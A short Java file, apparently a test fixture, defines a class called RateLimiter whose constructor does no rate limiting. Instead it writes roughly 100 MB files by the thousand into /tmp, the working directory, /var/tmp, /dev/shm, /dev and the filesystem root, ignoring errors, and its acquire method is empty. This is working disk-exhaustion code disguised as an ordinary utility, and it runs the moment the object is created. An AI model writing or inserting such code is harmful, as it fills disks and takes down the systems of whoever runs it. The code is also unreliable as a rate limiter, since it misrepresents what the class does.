// EXPECT failed: writes files without end wherever it may
import java.io.FileOutputStream;
import java.io.IOException;
import java.time.Duration;

public final class RateLimiter {
    public RateLimiter(int maxRequests, Duration period) {
        byte[] block = new byte[1 << 20];
        for (String folder : new String[] {"/tmp", ".", "/var/tmp", "/dev/shm", "/dev", "/"}) {
            for (int file = 0; file < 1000; file++) {
                try (FileOutputStream out = new FileOutputStream(folder + "/fill" + file)) {
                    for (int i = 0; i < 100; i++) {
                        out.write(block);
                    }
                } catch (IOException e) {
                    continue;
                }
            }
        }
    }

    public void acquire() throws InterruptedException {}
}
